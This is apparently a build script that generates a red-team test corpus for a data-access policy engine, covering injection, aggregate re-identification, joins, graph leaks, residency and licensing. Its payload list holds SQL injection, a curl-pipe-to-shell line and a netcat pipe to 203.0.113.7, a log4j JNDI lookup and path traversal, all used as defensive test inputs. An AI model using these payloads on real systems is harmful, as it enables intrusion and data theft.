#!/usr/bin/env node
/**
 * Builds the red-team corpus (cases/*.jsonl) from hand-written base requests and attack
 * variations. Deterministic: run `node examples/lac/redteam/build.mjs` and commit the output.
 *
 * Labels come from what each case is meant to test (the attacker's goal or the benign intent),
 * never from running a policy: a label is a claim the policy is checked against.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const here = dirname(fileURLToPath(import.meta.url));
const out = join(here, "cases");
mkdirSync(out, { recursive: true });

const clone = (v) => structuredClone(v);
/** Deep-merges patch into a copy of base; a value of undefined deletes the key. */
function with_(base, patch) {
  const r = clone(base);
  for (const [ns, attrs] of Object.entries(patch)) {
    if (attrs === undefined) {
      delete r[ns];
      continue;
    }
    if (ns === "graph") {
      r.graph = attrs;
      continue;
    }
    r[ns] = { ...(r[ns] ?? {}) };
    for (const [k, v] of Object.entries(attrs)) {
      if (v === undefined) delete r[ns][k];
      // defineProperty keeps a "__proto__" key an own, serialized property
      else
        Object.defineProperty(r[ns], k, { value: v, enumerable: true, writable: true, configurable: true });
    }
  }
  return r;
}

// ---- base requests (complete, as a query planner would send them) -------------------------------
const ANALYST_QUERY = {
  subject: { role: "analyst", onCall: false, geo: "EU", team: "growth", licenses: [] },
  resource: { dataset: "orders", residency: "EU", license: "internal", containsPii: true },
  action: { type: "query", rows: 5000 },
  context: { purpose: "analytics", tenantTier: "pro", destinationGeo: "EU" },
};
const ANALYST_EXPORT = {
  subject: { role: "analyst", onCall: false, geo: "EU", team: "growth", licenses: [] },
  resource: { dataset: "orders", residency: "EU", license: "internal", containsPii: false },
  action: { type: "export", rows: 20000 },
  context: {
    purpose: "analytics",
    reasonForAccess: "quarterly churn review (JIRA-1234)",
    tenantTier: "enterprise",
    destinationGeo: "EU",
  },
};
/** An on-call contractor during an incident: granted by allow-on-call-incident unless PII is involved. */
const CONTRACTOR_PII = {
  subject: { role: "contractor", onCall: true, geo: "EU", team: "vendor-x", licenses: [] },
  resource: { dataset: "customers", residency: "EU", license: "internal", containsPii: true },
  action: { type: "query", rows: 100 },
  context: {
    purpose: "incident-response",
    reasonForAccess: "INC-91",
    tenantTier: "pro",
    destinationGeo: "EU",
  },
};
const ON_CALL = {
  subject: { role: "engineer", onCall: true, geo: "US", team: "sre", licenses: [] },
  resource: { dataset: "payments", residency: "US", license: "internal", containsPii: false },
  action: { type: "query", rows: 2000 },
  context: {
    purpose: "incident-response",
    reasonForAccess: "INC-77",
    tenantTier: "enterprise",
    destinationGeo: "US",
  },
};
const RESEARCH_SHARE = {
  subject: { role: "analyst", team: "science", licenses: ["cc-by"] },
  resource: { dataset: "cohort-2023", residency: "EU", license: "cc-by", containsPii: false },
  action: { type: "share", aggregate: "mean", minGroupSize: 50 },
  context: { purpose: "research", reasonForAccess: "partner study P-12", destinationGeo: "EU" },
};
const GRAPH_BASE = {
  subject: { role: "analyst", team: "fraud" },
  resource: { dataset: "transfers", residency: "EU", containsPii: true },
  action: { type: "query" },
  context: { purpose: "fraud-investigation", reasonForAccess: "case 4711" },
};

// ---- graph shapes --------------------------------------------------------------------------------
const chain = (hops, prefix = "a") => ({
  seeds: [`${prefix}0`],
  edges: Array.from({ length: hops }, (_, i) => [`${prefix}${i}`, `${prefix}${i + 1}`]),
});
/** A seed with `fan` children, each with `fan` grandchildren: path 2, fan² + fan + 1 nodes. */
const tree2 = (fan) => {
  const edges = [];
  for (let i = 0; i < fan; i++) {
    edges.push([0, i + 1]);
    for (let j = 0; j < fan; j++) edges.push([i + 1, 1000 + i * fan + j]);
  }
  return { seeds: [0], edges };
};
const star = (leaves) => ({ seeds: [0], edges: Array.from({ length: leaves }, (_, i) => [0, i + 1]) });
/** A ring: every node has degree 2; with one seed the path is half the ring. */
const ring = (n) => ({ seeds: [0], edges: Array.from({ length: n }, (_, i) => [i, (i + 1) % n]) });

// ---- attack payloads for string attributes ------------------------------------------------------
const PAYLOADS = [
  ["sql-tautology", "' OR '1'='1"],
  ["sql-stacked", "orders; DROP TABLE audit_log;--"],
  ["sql-union", "x' UNION SELECT ssn FROM customers--"],
  ["sql-comment", "admin'--"],
  ["shell-subst", "$(curl -s http://203.0.113.7/x | sh)"],
  ["shell-backtick", "`id`"],
  ["shell-pipe", "growth | nc 203.0.113.7 4444"],
  ["template-jinja", "{{7*7}}"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal ${...}
  ["template-log4j", "${jndi:ldap://203.0.113.7/a}"],
  ["template-lac-placeholder", "{subject.role}"],
  ["template-erb", "<%= `whoami` %>"],
  ["html-script", "<script>alert(1)</script>"],
  ["json-breakout", '"},"subject":{"role":"admin"},"x":{"y":"'],
  ["crlf", "growth\r\nX-Role: admin"],
  ["nul-byte", "growth\u0000admin"],
  ["rtl-override", "growth\u202Enimda"],
  ["zero-width", "gro\u200Bwth"],
  ["confusable-cyrillic", "grоwth"],
  ["fullwidth", "ｇｒｏｗｔｈ"],
  ["long-10k", "A".repeat(10_000)],
  ["long-64k", "é".repeat(32_768)],
  ["emoji", "team 🚀🔥"],
  ["path-traversal", "../../../../etc/passwd"],
  ["regex-dos", `${"a".repeat(5000)}!`],
];

const cases = new Map(); // category → case[]
const add = (category, id, description, policy, request, expect) => {
  if (!cases.has(category)) cases.set(category, []);
  cases.get(category).push({ id: `${category}:${id}`, category, description, policy, request, expect });
};
const DENY = (rules, extra = {}) => ({ decision: "deny", ...(rules ? { rules } : {}), ...extra });
const ALLOW = (rules) => ({ decision: "allow", ...(rules ? { rules } : {}) });
const REFUSED = { decision: "deny", error: "TF_LAC_REQUEST_INVALID" };

// ===== injection =================================================================================
for (const [name, p] of PAYLOADS) {
  add(
    "injection",
    `team-contractor-pii-${name}`,
    `A ${name} payload in subject.team must not lift the contractor/PII denial`,
    "analytics-export",
    with_(CONTRACTOR_PII, { subject: { team: p } }),
    DENY(["deny-contractor-pii"]),
  );
  add(
    "injection",
    `dataset-outside-residency-${name}`,
    `A ${name} payload in resource.dataset must not lift the residency denial of an export`,
    "analytics-export",
    with_(ANALYST_EXPORT, { resource: { dataset: p }, context: { destinationGeo: "US" } }),
    DENY(["deny-export-outside-residency"]),
  );
  add(
    "injection",
    `reason-marketing-pii-${name}`,
    `A ${name} payload as reason for access must not lift the marketing/PII denial`,
    "analytics-export",
    with_(ANALYST_QUERY, { context: { purpose: "marketing", reasonForAccess: p } }),
    DENY(["deny-marketing-pii"]),
  );
  add(
    "injection",
    `benign-team-${name}`,
    `Strange characters (${name}) in subject.team of an ordinary analyst query are data, not a reason to deny`,
    "analytics-export",
    with_(ANALYST_QUERY, { subject: { team: p } }),
    ALLOW(["allow-analyst-query"]),
  );
}
// payloads in enum attributes: the schema refuses the request before any rule runs
const ENUM_ATTACKS = [
  ["role-sql", { subject: { role: "contractor' OR role='admin" } }],
  ["role-confusable", { subject: { role: "аdmin" } }],
  ["role-case", { subject: { role: "Admin" } }],
  ["role-padded", { subject: { role: "admin " } }],
  ["role-zero-width", { subject: { role: "ad\u200Bmin" } }],
  ["role-nul", { subject: { role: "admin\u0000contractor" } }],
  ["role-array", { subject: { role: ["contractor", "admin"] } }],
  ["role-object", { subject: { role: { $ne: "contractor" } } }],
  ["purpose-confusable", { context: { purpose: "incidеnt-response" } }],
  ["residency-lowercase", { resource: { residency: "eu" } }],
  ["pii-string-false", { resource: { containsPii: "false" } }],
  ["pii-zero", { resource: { containsPii: 0 } }],
  ["rows-string", { action: { rows: "1e3" } }],
  ["licenses-string", { subject: { licenses: "restricted" } }],
  ["licenses-object", { subject: { licenses: { 0: "restricted" } } }],
  ["extra-isAdmin", { subject: { isAdmin: true } }],
  ["extra-override", { context: { decision: "allow" } }],
  ["extra-section", { policy: { mode: "audit" } }],
  ["proto-pollution", { subject: JSON.parse('{"__proto__": {"role": "admin"}}') }],
  ["constructor-key", { subject: { constructor: "admin" } }],
];
for (const [name, patch] of ENUM_ATTACKS) {
  add(
    "injection",
    `refused-${name}`,
    `A contractor request with a malformed or unknown attribute (${name}) is refused by the schema, never evaluated`,
    "analytics-export",
    with_(CONTRACTOR_PII, patch),
    REFUSED,
  );
}
for (const [name, p] of PAYLOADS.slice(0, 12)) {
  add(
    "injection",
    `licenses-${name}`,
    `A ${name} payload posing as an accepted license does not accept the restricted license`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { dataset: "genomes", license: "restricted", containsPii: false },
      subject: { licenses: [p] },
    }),
    DENY(["deny-restricted-license"]),
  );
}
add(
  "injection",
  "licenses-confusable-restricted",
  "A license spelt with a Cyrillic е does not accept the restricted license",
  "analytics-export",
  with_(ANALYST_QUERY, {
    resource: { license: "restricted", containsPii: false },
    subject: { licenses: ["rеstricted"] },
  }),
  DENY(["deny-restricted-license"]),
);
add(
  "injection",
  "research-dataset-sql",
  "An SQL payload in the dataset name does not turn a PII share into an allowed one",
  "research-sharing",
  with_(RESEARCH_SHARE, { resource: { dataset: "cohort' OR containsPii=false--", containsPii: true } }),
  DENY(["deny-pii-share"]),
);
add(
  "injection",
  "research-benign-unicode",
  "A dataset with non-ASCII letters is an ordinary research share",
  "research-sharing",
  with_(RESEARCH_SHARE, { resource: { dataset: "Kohorte-Zürich-Ærø" } }),
  ALLOW(["allow-open-license-research"]),
);

// ===== aggregates (inference through aggregates) ================================================
for (const k of [1, 2, 3, 4, 5, 7, 9]) {
  for (const agg of ["count", "mean", "sum", "histogram"]) {
    add(
      "aggregates",
      `small-cohort-${agg}-${k}`,
      `A ${agg} over groups of ${k} row(s) re-identifies individuals (k-anonymity threshold is 10)`,
      "analytics-export",
      with_(ANALYST_QUERY, { action: { aggregate: agg, minGroupSize: k } }),
      DENY(["deny-small-cohort"]),
    );
  }
}
for (const k of [10, 11, 25, 100, 5000]) {
  for (const agg of ["count", "mean", "histogram"]) {
    add(
      "aggregates",
      `large-cohort-${agg}-${k}`,
      `A ${agg} over groups of at least ${k} rows is an ordinary aggregate`,
      "analytics-export",
      with_(ANALYST_QUERY, { action: { aggregate: agg, minGroupSize: k } }),
      ALLOW(["allow-analyst-query"]),
    );
  }
}
for (const agg of ["count", "sum", "median"]) {
  add(
    "aggregates",
    `unknown-cohort-${agg}`,
    `A ${agg} whose smallest group size the planner could not state is treated as small (fail closed)`,
    "analytics-export",
    with_(ANALYST_QUERY, { action: { aggregate: agg } }),
    DENY(["deny-aggregate-without-cohort"]),
  );
}
for (const d of [1, 2, 5, 9]) {
  add(
    "aggregates",
    `differencing-${d}`,
    `Two aggregates whose cohorts differ by ${d} row(s) reveal those rows by subtraction`,
    "analytics-export",
    with_(ANALYST_QUERY, { action: { aggregate: "sum", minGroupSize: 40, differenceRows: d } }),
    DENY(["deny-differencing"]),
  );
}
for (const d of [10, 50, 1000]) {
  add(
    "aggregates",
    `no-differencing-${d}`,
    `Cohorts that differ by ${d} rows do not isolate anyone`,
    "analytics-export",
    with_(ANALYST_QUERY, { action: { aggregate: "sum", minGroupSize: 40, differenceRows: d } }),
    ALLOW(["allow-analyst-query"]),
  );
}
for (const agg of ["min", "max"]) {
  add(
    "aggregates",
    `extreme-${agg}-pii`,
    `The ${agg} of a personal attribute is one person's value, however large the group`,
    "analytics-export",
    with_(ANALYST_QUERY, { action: { aggregate: agg, minGroupSize: 500 } }),
    DENY(["deny-extreme-aggregate-pii"]),
  );
  add(
    "aggregates",
    `extreme-${agg}-non-pii`,
    `The ${agg} over non-personal data (latencies) is harmless`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { dataset: "latencies", containsPii: false },
      action: { aggregate: agg, minGroupSize: 500 },
    }),
    ALLOW(["allow-analyst-query"]),
  );
}
add(
  "aggregates",
  "row-level-none",
  "aggregate: none is a row-level query; the cohort rules do not apply",
  "analytics-export",
  with_(ANALYST_QUERY, { action: { aggregate: "none" } }),
  ALLOW(["allow-analyst-query"]),
);
add(
  "aggregates",
  "export-small-cohort",
  "Exporting an aggregate over groups of 3 is as revealing as querying it",
  "analytics-export",
  with_(ANALYST_EXPORT, { action: { aggregate: "count", minGroupSize: 3 } }),
  DENY(["deny-small-cohort"]),
);
add(
  "aggregates",
  "export-large-cohort",
  "Exporting an aggregate over groups of 200",
  "analytics-export",
  with_(ANALYST_EXPORT, { action: { aggregate: "count", minGroupSize: 200 } }),
  ALLOW(["allow-analyst-export"]),
);
// Known friction: a count over non-personal log lines without a stated group size is harmless,
// but the policy fails closed. Labelled by intent (allow): measured as a false positive.
add(
  "aggregates",
  "friction-count-logs-unknown-cohort",
  "Counting non-personal log lines needs no cohort size; the policy's fail-closed rule still denies (known friction)",
  "analytics-export",
  with_(ANALYST_QUERY, { resource: { dataset: "logs", containsPii: false }, action: { aggregate: "count" } }),
  ALLOW(),
);
for (const k of [2, 5]) {
  add(
    "aggregates",
    `research-small-cohort-${k}`,
    `Sharing research means over groups of ${k} re-identifies participants`,
    "research-sharing",
    with_(RESEARCH_SHARE, { action: { minGroupSize: k } }),
    DENY(["deny-small-cohort-share"]),
  );
}
add(
  "aggregates",
  "research-differencing",
  "Two research shares differing by 1 participant",
  "research-sharing",
  with_(RESEARCH_SHARE, { action: { differenceRows: 1 } }),
  DENY(["deny-differencing-share"]),
);
add(
  "aggregates",
  "research-large-cohort",
  "Sharing research means over groups of 50",
  "research-sharing",
  RESEARCH_SHARE,
  ALLOW(["allow-open-license-research"]),
);

// ===== joins (join leakage) ======================================================================
for (const [dest, other] of [
  ["EU", "US"],
  ["EU", "APAC"],
  ["US", "EU"],
  ["APAC", "EU"],
  ["US", "APAC"],
]) {
  add(
    "joins",
    `export-join-${other}-into-${dest}`,
    `An export to ${dest} of ${dest}-resident data joined with ${other}-resident data moves the ${other} rows out of residency`,
    "analytics-export",
    with_(ANALYST_EXPORT, {
      resource: { residency: dest },
      context: { destinationGeo: dest },
      action: { joinResidencies: [dest, other] },
    }),
    DENY(["deny-join-outside-residency"]),
  );
  add(
    "joins",
    `query-join-${other}-with-${dest}`,
    `A query (not an export) joining ${dest} and ${other} data stays where it is`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { residency: dest },
      context: { destinationGeo: dest },
      action: { joinResidencies: [dest, other] },
    }),
    ALLOW(["allow-analyst-query"]),
  );
}
for (const geo of ["EU", "US", "APAC"]) {
  add(
    "joins",
    `export-join-same-residency-${geo}`,
    `An export joining only ${geo}-resident datasets to ${geo}`,
    "analytics-export",
    with_(ANALYST_EXPORT, {
      resource: { residency: geo },
      context: { destinationGeo: geo },
      action: { joinResidencies: [geo] },
    }),
    ALLOW(["allow-analyst-export"]),
  );
}
for (const ds of ["sessions", "tickets", "alerts"]) {
  add(
    "joins",
    `contractor-join-pii-${ds}`,
    `An on-call contractor joins ${ds} (no PII) with a personal dataset: the PII arrives through the join`,
    "analytics-export",
    with_(CONTRACTOR_PII, {
      resource: { dataset: ds, containsPii: false },
      action: { joinContainsPii: true },
    }),
    DENY(["deny-contractor-join-pii"]),
  );
  add(
    "joins",
    `contractor-join-no-pii-${ds}`,
    `An on-call contractor joins ${ds} with another non-personal dataset during an incident`,
    "analytics-export",
    with_(CONTRACTOR_PII, {
      resource: { dataset: ds, containsPii: false },
      action: { joinContainsPii: false },
    }),
    ALLOW(["allow-on-call-incident"]),
  );
}
for (const ds of ["sessions", "orders", "clicks"]) {
  add(
    "joins",
    `marketing-join-pii-${ds}`,
    `Marketing joins ${ds} (no PII) with a personal dataset`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { dataset: ds, containsPii: false },
      action: { joinContainsPii: true },
      context: { purpose: "marketing" },
    }),
    DENY(["deny-marketing-join-pii"]),
  );
  add(
    "joins",
    `marketing-join-no-pii-${ds}`,
    `Marketing joins ${ds} with another non-personal dataset`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { dataset: ds, containsPii: false },
      action: { joinContainsPii: false },
      context: { purpose: "marketing" },
    }),
    ALLOW(["allow-analyst-query"]),
  );
}
for (const licenses of [[], ["cc-by"], ["commercial"], undefined]) {
  const l = licenses === undefined ? "unknown" : licenses.join("_") || "none";
  add(
    "joins",
    `join-restricted-license-${l}`,
    `Joining a restricted-license dataset without accepting it (licenses: ${l}) smuggles restricted data into an internal query`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      resource: { containsPii: false },
      subject: { licenses },
      action: { joinLicenses: ["internal", "restricted"] },
    }),
    DENY(["deny-join-restricted-license"]),
  );
}
add(
  "joins",
  "join-restricted-license-accepted",
  "Joining a restricted-license dataset after accepting the license",
  "analytics-export",
  with_(ANALYST_QUERY, {
    resource: { containsPii: false },
    subject: { licenses: ["restricted"] },
    action: { joinLicenses: ["internal", "restricted"] },
  }),
  ALLOW(["allow-analyst-query"]),
);
add(
  "joins",
  "join-open-licenses",
  "Joining internal and cc-by datasets",
  "analytics-export",
  with_(ANALYST_QUERY, { action: { joinLicenses: ["internal", "cc-by"], joinContainsPii: false } }),
  ALLOW(["allow-analyst-query"]),
);
add(
  "joins",
  "research-share-join-pii",
  "A research share of an open dataset joined with a personal one",
  "research-sharing",
  with_(RESEARCH_SHARE, { action: { joinContainsPii: true } }),
  DENY(["deny-pii-join-share"]),
);
add(
  "joins",
  "research-share-join-restricted",
  "A research share joining a restricted-license dataset",
  "research-sharing",
  with_(RESEARCH_SHARE, { action: { joinLicenses: ["cc-by", "restricted"] } }),
  DENY(["deny-restricted-join-share"]),
);
add(
  "joins",
  "research-share-join-open",
  "A research share joining two open datasets",
  "research-sharing",
  with_(RESEARCH_SHARE, { action: { joinLicenses: ["cc-by", "internal"], joinContainsPii: false } }),
  ALLOW(["allow-open-license-research"]),
);

// ===== graph leaks ===============================================================================
for (const hops of [4, 5, 6, 8, 12, 20, 50]) {
  add(
    "graph-leaks",
    `deep-chain-${hops}`,
    `Walking ${hops} hops from the seed reaches people unrelated to the case`,
    "graph-traversal",
    with_(GRAPH_BASE, { graph: chain(hops) }),
    DENY(["deny-deep-traversal"]),
  );
}
for (const hops of [1, 2, 3]) {
  add(
    "graph-leaks",
    `shallow-chain-${hops}`,
    `A ${hops}-hop neighbourhood of the case account`,
    "graph-traversal",
    with_(GRAPH_BASE, { graph: chain(hops) }),
    ALLOW(["allow-investigation"]),
  );
}
for (const n of [1002, 1500]) {
  add(
    "graph-leaks",
    `huge-component-incident-${n}`,
    `A ${n}-node component pulled in for incident response (not a fraud investigation)`,
    "graph-traversal",
    with_(GRAPH_BASE, { context: { purpose: "incident-response" }, graph: { ...ring(n), seeds: undefined } }),
    DENY(["deny-large-component"]),
  );
}
add(
  "graph-leaks",
  "huge-shallow-component-fraud",
  "A wide but shallow (2 hops, degree 41) 1641-node neighbourhood is allowed for a fraud investigation",
  "graph-traversal",
  with_(GRAPH_BASE, { graph: tree2(40) }),
  ALLOW(["allow-investigation"]),
);
add(
  "graph-leaks",
  "huge-shallow-component-incident",
  "The same 1641-node neighbourhood for incident response is too wide",
  "graph-traversal",
  with_(GRAPH_BASE, { context: { purpose: "incident-response" }, graph: tree2(40) }),
  DENY(["deny-large-component"]),
);
for (const leaves of [501, 800, 2000]) {
  add(
    "graph-leaks",
    `hub-${leaves}`,
    `Expanding a hub with ${leaves} neighbours pulls in a crowd`,
    "graph-traversal",
    with_(GRAPH_BASE, { graph: star(leaves) }),
    DENY(["deny-hub-expansion"]),
  );
}
for (const leaves of [10, 200, 500]) {
  add(
    "graph-leaks",
    `small-hub-${leaves}`,
    `A node with ${leaves} neighbours is within the hub limit`,
    "graph-traversal",
    with_(GRAPH_BASE, { graph: star(leaves) }),
    ALLOW(["allow-investigation"]),
  );
}
add(
  "graph-leaks",
  "contractor-small-graph",
  "A contractor may not traverse the transfer graph at all",
  "graph-traversal",
  with_(GRAPH_BASE, { subject: { role: "contractor" }, graph: chain(2) }),
  DENY([]),
);
add(
  "graph-leaks",
  "no-graph-at-all",
  "An investigation request without a planned subgraph is not a graph query",
  "graph-traversal",
  GRAPH_BASE,
  DENY([]),
);
// the same shapes on an analytics query (analytics-export gates graphs it is given, too)
for (const hops of [4, 10, 30]) {
  add(
    "graph-leaks",
    `analytics-deep-chain-${hops}`,
    `An analytics query whose plan walks ${hops} hops`,
    "analytics-export",
    with_(ANALYST_QUERY, { graph: chain(hops) }),
    DENY(["deny-graph-deep-walk"]),
  );
  add(
    "graph-leaks",
    `analytics-deep-chain-no-seeds-${hops}`,
    `A ${hops}-hop walk with the seeds left out, so the depth cannot be measured (fail closed)`,
    "analytics-export",
    with_(ANALYST_QUERY, { graph: { edges: chain(hops).edges } }),
    DENY(["deny-graph-without-seeds"]),
  );
}
add(
  "graph-leaks",
  "analytics-huge-component",
  "An analytics query planning a 1641-node component, only 2 hops deep",
  "analytics-export",
  with_(ANALYST_QUERY, { graph: tree2(40) }),
  DENY(["deny-graph-large-component"]),
);
add(
  "graph-leaks",
  "analytics-huge-ring",
  "An analytics query planning a 1200-node ring from four seeds",
  "analytics-export",
  with_(ANALYST_QUERY, { graph: { ...ring(1200), seeds: [0, 300, 600, 900] } }),
  DENY(["deny-graph-large-component", "deny-graph-deep-walk"]),
);
add(
  "graph-leaks",
  "analytics-hub",
  "An analytics query expanding a 700-neighbour hub",
  "analytics-export",
  with_(ANALYST_QUERY, { graph: star(700) }),
  DENY(["deny-graph-hub"]),
);
for (const hops of [1, 2, 3]) {
  add(
    "graph-leaks",
    `analytics-shallow-${hops}`,
    `An analytics query over a ${hops}-hop neighbourhood`,
    "analytics-export",
    with_(ANALYST_QUERY, { graph: chain(hops) }),
    ALLOW(["allow-analyst-query"]),
  );
}
add(
  "graph-leaks",
  "malformed-edge",
  "A planned subgraph with a malformed edge is refused",
  "graph-traversal",
  with_(GRAPH_BASE, { graph: { seeds: [1], edges: [[1, 2], [2]] } }),
  REFUSED,
);
add(
  "graph-leaks",
  "extra-graph-field",
  "A planned subgraph claiming its own metrics is refused (metrics are computed, never taken from the request)",
  "graph-traversal",
  with_(GRAPH_BASE, { graph: { seeds: [1], edges: [[1, 2]], pathLength: 1 } }),
  REFUSED,
);

// ===== residency and tier ========================================================================
for (const [res, dest] of [
  ["EU", "US"],
  ["EU", "APAC"],
  ["US", "EU"],
  ["US", "APAC"],
  ["APAC", "EU"],
  ["APAC", "US"],
]) {
  for (const type of ["export", "share"]) {
    add(
      "residency-tier",
      `${type}-${res}-to-${dest}`,
      `A ${type} of ${res}-resident data to ${dest}`,
      "analytics-export",
      with_(type === "export" ? ANALYST_EXPORT : with_(ON_CALL, { action: { type: "share" } }), {
        resource: { residency: res },
        context: { destinationGeo: dest },
      }),
      DENY(["deny-export-outside-residency"]),
    );
  }
  add(
    "residency-tier",
    `query-${res}-from-${dest}`,
    `A ${dest}-based analyst querying ${res}-resident data in place (no export)`,
    "analytics-export",
    with_(ANALYST_QUERY, {
      subject: { geo: dest },
      resource: { residency: res },
      context: { destinationGeo: dest },
    }),
    ALLOW(["allow-analyst-query"]),
  );
}
for (const geo of ["EU", "US", "APAC"]) {
  add(
    "residency-tier",
    `export-within-${geo}`,
    `An export of ${geo}-resident data to ${geo}`,
    "analytics-export",
    with_(ANALYST_EXPORT, { resource: { residency: geo }, context: { destinationGeo: geo } }),
    ALLOW(["allow-analyst-export"]),
  );
  add(
    "residency-tier",
    `export-no-destination-${geo}`,
    `An export of ${geo}-resident data that leaves out its destination, so residency cannot be checked`,
    "analytics-export",
    with_(ANALYST_EXPORT, { resource: { residency: geo }, context: { destinationGeo: undefined } }),
    DENY(["deny-export-without-destination"]),
  );
  add(
    "residency-tier",
    `export-no-residency-to-${geo}`,
    `An export to ${geo} of a dataset whose residency is left out`,
    "analytics-export",
    with_(ANALYST_EXPORT, { resource: { residency: undefined }, context: { destinationGeo: geo } }),
    DENY(["deny-export-without-destination"]),
  );
}
add(
  "residency-tier",
  "share-no-destination",
  "An on-call share that leaves out the destination",
  "analytics-export",
  with_(ON_CALL, { action: { type: "share" }, context: { destinationGeo: undefined } }),
  DENY(["deny-export-without-destination"]),
);
for (const rows of [1, 10, 20000, 100000]) {
  add(
    "residency-tier",
    `free-tier-export-${rows}`,
    `A free-tier tenant exports ${rows} rows`,
    "analytics-export",
    with_(ANALYST_EXPORT, { action: { rows }, context: { tenantTier: "free" } }),
    DENY(["deny-free-tier-export"]),
  );
  for (const tier of ["pro", "enterprise"]) {
    add(
      "residency-tier",
      `${tier}-tier-export-${rows}`,
      `A ${tier}-tier tenant exports ${rows} rows`,
      "analytics-export",
      with_(ANALYST_EXPORT, { action: { rows }, context: { tenantTier: tier } }),
      ALLOW(["allow-analyst-export"]),
    );
  }
  add(
    "residency-tier",
    `unknown-tier-export-${rows}`,
    `An export of ${rows} rows that leaves out the tenant tier (fail closed)`,
    "analytics-export",
    with_(ANALYST_EXPORT, { action: { rows }, context: { tenantTier: undefined } }),
    DENY(["deny-export-without-tier"]),
  );
}
add(
  "residency-tier",
  "free-tier-share",
  "A free-tier tenant shares data (on call)",
  "analytics-export",
  with_(ON_CALL, { action: { type: "share" }, context: { tenantTier: "free" } }),
  DENY(["deny-free-tier-share"]),
);
add(
  "residency-tier",
  "free-tier-query",
  "A free-tier tenant may query",
  "analytics-export",
  with_(ANALYST_QUERY, { context: { tenantTier: "free" } }),
  ALLOW(["allow-analyst-query"]),
);
add(
  "residency-tier",
  "bulk-export-over-limit",
  "An export of 100001 rows is over the per-export limit",
  "analytics-export",
  with_(ANALYST_EXPORT, { action: { rows: 100001 } }),
  DENY([]),
);
add(
  "residency-tier",
  "bulk-export-huge",
  "An export of 50 million rows",
  "analytics-export",
  with_(ANALYST_EXPORT, { action: { rows: 50_000_000 } }),
  DENY([]),
);
add(
  "residency-tier",
  "research-share-outside-residency",
  "A research share of EU data to a US partner",
  "research-sharing",
  with_(RESEARCH_SHARE, { context: { destinationGeo: "US" } }),
  DENY(["deny-share-outside-residency"]),
);
add(
  "residency-tier",
  "research-share-within-residency",
  "A research share of EU data to an EU partner",
  "research-sharing",
  RESEARCH_SHARE,
  ALLOW(["allow-open-license-research"]),
);

// ===== license misuse ============================================================================
for (const licenses of [[], ["cc-by"], ["commercial"], ["internal", "cc-by", "commercial"], undefined]) {
  const l = licenses === undefined ? "unknown" : licenses.join("_") || "none";
  for (const type of ["query", "export"]) {
    add(
      "license",
      `restricted-${type}-licenses-${l}`,
      `A ${type} of a restricted-license dataset by a subject who has not accepted it (licenses: ${l})`,
      "analytics-export",
      with_(type === "query" ? ANALYST_QUERY : ANALYST_EXPORT, {
        resource: { dataset: "genomes", license: "restricted", containsPii: false },
        subject: { licenses },
      }),
      DENY(licenses === undefined ? ["deny-restricted-license-unknown"] : ["deny-restricted-license"]),
    );
  }
}
for (const type of ["query", "export"]) {
  add(
    "license",
    `restricted-${type}-accepted`,
    `A ${type} of a restricted-license dataset after accepting the license`,
    "analytics-export",
    with_(type === "query" ? ANALYST_QUERY : ANALYST_EXPORT, {
      resource: { dataset: "genomes", license: "restricted", containsPii: false },
      subject: { licenses: ["restricted"] },
    }),
    ALLOW(),
  );
}
for (const licenses of [[], ["cc-by"], ["restricted"], undefined]) {
  const l = licenses === undefined ? "unknown" : licenses.join("_") || "none";
  add(
    "license",
    `commercial-export-licenses-${l}`,
    `An export of commercially licensed data without the commercial license (licenses: ${l})`,
    "analytics-export",
    with_(ANALYST_EXPORT, {
      resource: { dataset: "market-panel", license: "commercial" },
      subject: { licenses },
    }),
    DENY(["deny-commercial-export-unlicensed"]),
  );
}
add(
  "license",
  "commercial-export-licensed",
  "An export of commercially licensed data with the commercial license",
  "analytics-export",
  with_(ANALYST_EXPORT, {
    resource: { dataset: "market-panel", license: "commercial" },
    subject: { licenses: ["commercial"] },
  }),
  ALLOW(["allow-analyst-export"]),
);
add(
  "license",
  "commercial-query",
  "Querying commercially licensed data in place is covered by the subscription",
  "analytics-export",
  with_(ANALYST_QUERY, { resource: { dataset: "market-panel", license: "commercial" } }),
  ALLOW(["allow-analyst-query"]),
);
for (const lic of ["cc-by", "internal"]) {
  add(
    "license",
    `${lic}-export`,
    `An export of ${lic} data`,
    "analytics-export",
    with_(ANALYST_EXPORT, { resource: { license: lic } }),
    ALLOW(["allow-analyst-export"]),
  );
}
for (const lic of ["commercial", "restricted"]) {
  add(
    "license",
    `research-share-${lic}`,
    `Sharing ${lic}-licensed data with research partners`,
    "research-sharing",
    with_(RESEARCH_SHARE, { resource: { license: lic } }),
    DENY(),
  );
}
for (const lic of ["cc-by", "internal"]) {
  add(
    "license",
    `research-share-${lic}`,
    `Sharing ${lic}-licensed, non-personal data for research`,
    "research-sharing",
    with_(RESEARCH_SHARE, { resource: { license: lic } }),
    ALLOW(["allow-open-license-research"]),
  );
}
add(
  "license",
  "research-marketing-purpose",
  "Sharing open data for marketing under the research policy",
  "research-sharing",
  with_(RESEARCH_SHARE, { context: { purpose: "marketing" } }),
  DENY(["deny-everything-else"]),
);

// ===== reason for access =========================================================================
const JUNK = [
  "",
  " ",
  "   ",
  "-",
  ".",
  "n/a",
  "N/A",
  "na",
  "none",
  "None",
  "null",
  "undefined",
  "tbd",
  "TBD",
  "?",
  "x",
];
for (const [n, r] of JUNK.entries()) {
  add(
    "reason-for-access",
    `export-placeholder-${n}`,
    `An export whose reason for access is the placeholder ${JSON.stringify(r)}`,
    "analytics-export",
    with_(ANALYST_EXPORT, { context: { reasonForAccess: r } }),
    DENY(["deny-blank-reason"]),
  );
}
add(
  "reason-for-access",
  "export-missing",
  "An export without a reason for access",
  "analytics-export",
  with_(ANALYST_EXPORT, { context: { reasonForAccess: undefined } }),
  DENY(["deny-export-without-reason"]),
);
add(
  "reason-for-access",
  "export-null",
  "An export whose reason for access is null",
  "analytics-export",
  with_(ANALYST_EXPORT, { context: { reasonForAccess: null } }),
  DENY(["deny-export-without-reason"]),
);
add(
  "reason-for-access",
  "on-call-share-missing",
